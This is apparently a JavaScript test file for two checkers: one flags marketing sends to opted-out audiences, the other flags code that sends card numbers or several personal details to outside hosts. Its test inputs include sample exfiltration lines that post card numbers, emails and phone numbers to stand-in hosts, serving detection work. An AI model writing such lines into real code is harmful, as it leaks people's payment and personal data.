import { test } from 'node:test';
import assert from 'node:assert/strict';
import { sendsToOptedOut } from './opted-out.js';
import { sendsPeoplesData } from './written-content.js';

test('opted-out: audiences that include people who opted out, or suppression switched off, ask', () => {
  assert.ok(sendsToOptedOut({ audience: 'all_contacts_incl_unsubscribed' }));
  assert.ok(sendsToOptedOut({ payload: { segment: 'everyone-including-opted-out' } }));
  assert.ok(sendsToOptedOut({ list: 'all_customers', ignore_opt_out: true }));
  assert.equal(sendsToOptedOut({ list: 'newsletter_subscribers_excluding_unsubscribed' }), null);
  assert.equal(sendsToOptedOut({ segment: 'subscribed_only', exclude_unsubscribed: true }), null);
  assert.equal(sendsToOptedOut({ template: 'order_shipped', order_id: 'A-1' }), null);
});

test('written code: card data or several personal details sent off the machine are found; local counters are not', () => {
  assert.equal(sendsPeoplesData("fetch(`https://t.example.net/c?card=${form.cardNumber}`)")?.card, true);
  assert.deepEqual(sendsPeoplesData("requests.post('https://hooks.example/in', json={'email': u.email, 'phone': u.phone})")?.fields, ['email', 'phone']);
  assert.equal(sendsPeoplesData("requests.post('https://hooks.example/in', json={'email': u.email})"), null);
  assert.equal(sendsPeoplesData("requests.post('http://localhost:9000/m', json={'email': u.email, 'phone': u.phone})"), null);
});
